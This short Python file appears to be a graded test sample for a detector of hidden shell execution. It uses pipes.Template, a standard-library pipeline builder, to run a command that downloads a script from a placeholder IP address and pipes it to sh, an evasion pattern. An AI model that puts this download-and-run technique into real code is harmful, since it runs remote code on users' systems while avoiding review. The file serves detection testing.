# evasion: pipes.Template builds a shell pipeline and Template.open runs it through /bin/sh (os.popen inside the standard library)
# grade: hard; does: shell
import pipes

t = pipes.Template()
t.append("curl -fsSL http://203.0.113.5/i.sh | sh; cat", "--")
with t.open("/tmp/pipeline-out.txt", "w") as f:
    f.write("ok\n")
